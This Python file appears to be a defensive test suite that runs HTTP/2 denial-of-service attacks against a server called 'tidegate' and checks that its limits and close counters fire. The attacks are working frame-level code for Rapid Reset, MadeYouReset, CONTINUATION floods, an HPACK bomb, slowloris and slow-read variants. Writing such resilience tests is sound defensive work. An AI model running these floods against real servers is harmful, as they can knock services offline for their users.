"""HTTP/2: streams opened, held, reset and starved; heads that never end or grow when unpacked."""
import time

import frames
from attacker import attack, streams
from frames import END_HEADERS, HELLO, PREFACE, get, head

CLOSED = "tidegate_http_limit_closes_total"
CALM_RESETS = {"limit": "http.h2_resets", "counter": CLOSED + '{reason="h2_resets"}', "closes": True, "starts": 200}
HANG = head(b"/x/hang")
WIDE = frames.SettingsFrame(0, settings={4: 0x7FFFFFFF}).serialize()


@attack("CVE-2023-44487, Rapid Reset", **CALM_RESETS)
def rapid_reset(a):
    """Opens streams and resets them at once."""
    a.flood(lambda: streams(HANG, lambda s: frames.RstStreamFrame(s, error_code=8).serialize()))


@attack("CVE-2023-44487, in bunches", **CALM_RESETS)
def rapid_reset_in_bunches(a):
    """Opens fifty streams in one record, then resets them in the next, so that never too many are open."""
    def pieces():
        for first in range(1, 1 << 30, 100):
            ids = range(first, first + 100, 2)
            yield b"".join(get(s, HANG) for s in ids)
            yield b"".join(frames.RstStreamFrame(s, error_code=8).serialize() for s in ids)
    a.flood(pieces)


# The six ways to make the server send the reset itself (CVE-2025-8671).
MADE_TO_RESET = {
    "window update of zero": lambda s: frames.frame(frames.WINDOW_UPDATE, 0, s, bytes(4)),
    "window past its end": lambda s: frames.frame(frames.WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff"),
    "priority of five bytes": lambda s: frames.frame(2, 0, s, bytes(4)),
    "priority on itself": lambda s: frames.frame(2, 0, s, s.to_bytes(4, "big") + b"\x10"),
    "headers after the end": lambda s: get(s, head(b"/x/small")),
    "data after the end": lambda s: frames.frame(frames.DATA, 1, s, b"x"),
}


def register_made_you_reset(what: str, provoke) -> None:
    def run(a):
        a.flood(lambda: streams(HANG, provoke))
    run.__name__ = "made_you_reset_" + what.replace(" ", "_")
    run.__doc__ = f"Makes the server reset the stream: {what}."
    attack("CVE-2025-8671, MadeYouReset", limit="http.h2_resets", closes=True, starts=200)(run)


for _what, _provoke in MADE_TO_RESET.items():
    register_made_you_reset(_what, _provoke)


@attack("CVE-2019-9514, Reset Flood", **CALM_RESETS)
def reset_flood(a):
    """Malformed requests, each of which the server has to answer with a reset."""
    a.flood(lambda: streams(head(fields=[(b"X-Upper", b"1")]), lambda s: b""))


@attack("stream hoarding", limit="http.h2_streams", starts=200, grows_mb=48)
def stream_hoard(a):
    """As many streams as are allowed, to something slow, on many connections."""
    block = b"".join(get(s, HANG) for s in range(1, 201, 2))
    conns = [a.h2() for _ in a.count(20)]
    for conn in conns:
        if conn:
            conn.send(block)
    a.hold(conns, 0.1, lambda turn: b"")


@attack("streams past the limit", limit="http.h2_streams", closes=True, starts=200)
def stream_overflow(a):
    """Ignores how many streams the server announced."""
    a.flood(lambda: streams(HANG, lambda s: b""))


@attack("CVE-2024-27316, CONTINUATION flood", limit="http.h2_header", closes=True, starts=0)
def continuation_flood(a):
    """A header block that never ends, in frames that each carry a field."""
    more = frames.frame(frames.CONTINUATION, 0, 1, frames.field(b"x", b"a" * 100))

    def pieces():
        yield frames.frame(frames.HEADERS, 1, 1, head())
        while True:
            yield more * 100
    a.flood(pieces)


@attack("CVE-2024-27316, empty CONTINUATION", limit="http.h2_control_frames", closes=True, starts=0)
def empty_continuation_flood(a):
    """The same with frames of no content: no limit of bytes ever sees them."""
    def pieces():
        yield frames.frame(frames.HEADERS, 1, 1, head())
        while True:
            yield frames.frame(frames.CONTINUATION, 0, 1) * 1000
    a.flood(pieces)


@attack("CVE-2016-6581, HPACK bomb", limit="http.h2_header", counter=CLOSED + '{reason="h2_header_bytes"}', closes=True, starts=0)
def hpack_bomb(a):
    """One field of 4 kB in the dynamic table, and then thousands of references to it."""
    big = b"\x40\x01x" + frames._text(b"a" * 3900)
    block = b"".join(b"\x10" + frames._text(n) + frames._text(v) for n, v in ((b":method", b"GET"), (b":scheme", b"https"),
                     (b":authority", b"a"), (b":path", b"/x/small"))) + big + b"\xbe" * 12000

    def pieces():
        for s in range(1, 1 << 30, 2):
            yield get(s, block)
    a.flood(pieces)


@attack("HPACK table churn", limit="http.h2_header", starts=None)
def hpack_table_churn(a):
    """Shrinks and grows the table within one block, thousands of times, and refills it."""
    block = b"\x20\x3f\xe1\x1f" + head() + b"".join(b"\x40" + frames._text(b"n%d" % n) + frames._text(b"v" * 30) for n in range(50))

    def pieces():
        for first in range(1, 1 << 30, 40):
            yield b"".join(get(s, block) for s in range(first, first + 40, 2))
    a.flood(pieces)


@attack("large header lists", limit="http.h2_header", counter=CLOSED + '{reason="header_fields_too_large"}', starts=0)
def large_header_list(a):
    """Heads of 60 kB on stream after stream: too large for one request, not absurd for the connection."""
    fields = [(b"x-%d" % n, b"a" * 1000) for n in range(60)]
    block = head(fields=fields)

    def pieces():
        for s in range(1, 1 << 30, 2):
            yield frames.frame(frames.HEADERS, 1, s, block[:16384]) + b"".join(
                frames.frame(frames.CONTINUATION, END_HEADERS if at + 16384 >= len(block) else 0, s, block[at:at + 16384])
                for at in range(16384, len(block), 16384))
    a.flood(pieces)


@attack("Slowloris on HTTP/2", limit="http.header", counter=CLOSED + '{reason="h2_header_timeout"}', closes=True, slow=True, starts=0)
def slow_h2_head(a):
    """A header block without its end."""
    conns = [a.h2() for _ in a.count(100)]
    for conn in conns:
        if conn:
            conn.send(frames.frame(frames.HEADERS, 1, 1, head()))
    a.hold(conns, 0.2, lambda turn: b"")


@attack("slow POST on HTTP/2", limit="http.body", counter=CLOSED + '{reason="request_timeout"}', slow=True)
def slow_h2_body(a):
    """A stream whose body comes a byte at a time."""
    block = head(method=b"POST", fields=[(b"content-length", b"100000")])
    conns = [a.h2() for _ in a.count(100)]
    for conn in conns:
        if conn:
            conn.send(get(1, block, end=False))
    a.hold(conns, 0.2, lambda turn: frames.frame(frames.DATA, 0, 1, b"a"))


@attack("silent HTTP/2", limit="http.idle", counter=CLOSED + '{reason="idle"}', closes=True, slow=True)
def silent_h2(a):
    """Says hello, and then nothing for ever."""
    a.hold([a.h2() for _ in a.count(100)], 0.2, lambda turn: b"")


@attack("half a preface", limit="http.first_byte", counter=CLOSED + '{reason="first_byte"}', closes=True, slow=True)
def half_preface(a):
    """Not even the hello is whole."""
    a.hold([a.h2(hello=PREFACE[:10]) for _ in a.count(100)], 0.2, lambda turn: b"")


@attack("CVE-2019-9517, slow read, zero window", limit="http.send_stall", counter=CLOSED + '{reason="send_stall"}', slow=True,
        grows_mb=48)
def zero_window(a):
    """Asks for 50 MB on a hundred streams and never opens a window."""
    none = PREFACE + frames.SettingsFrame(0, settings={4: 0}).serialize()
    block = b"".join(get(s, head(b"/x/bytes?n=50000000")) for s in range(1, 201, 2))
    conns = [a.h2(hello=none) for _ in a.count(10)]
    for conn in conns:
        if conn:
            conn.send(block)
    a.hold(conns, 0.2, lambda turn: b"")


@attack("CVE-2019-9517, internal data buffering", limit="http.send_stall", counter=CLOSED + '{reason="send_stall"}',
        slow=True, grows_mb=48, lasts=4)
def internal_data_buffering(a):
    """Opens all windows and then reads nothing from the socket."""
    wide = PREFACE + WIDE + frames.frame(frames.WINDOW_UPDATE, 0, 0, b"\x7f\xff\0\0")
    block = b"".join(get(s, head(b"/x/bytes?n=50000000")) for s in range(1, 201, 2))
    conns = [a.h2(hello=wide, receive=4096) for _ in a.count(10)]
    for conn in conns:
        if conn:
            conn.send(block)
    a.hold(conns, 0.2, lambda turn: b"", reads=False)


@attack("CVE-2019-9511, Data Dribble", limit="http.h2_control_frames")
def data_dribble(a):
    """Takes a large answer in windows of one byte, on many streams."""
    small = PREFACE + frames.SettingsFrame(0, settings={4: 1}).serialize()
    ids = range(1, 101, 2)
    block = b"".join(get(s, head(b"/x/bytes?n=1000000")) for s in ids)
    open_all = b"".join(frames.frame(frames.WINDOW_UPDATE, 0, s, b"\0\0\0\1") for s in ids)

    def pieces():
        yield block
        while True:
            yield open_all
    a.flood(pieces, hello=small)


@attack("answers that nobody reads", limit="output of a connection is bounded")
def unread_answers(a):
    """Sends good requests as fast as it can and never reads what comes back."""
    while a.goes_on():
        conn = a.h2(receive=4096)
        if conn:
            a.pour(conn, streams(head(), lambda s: b""), reads=False)
            time.sleep(0.2)
            conn.sock.close()
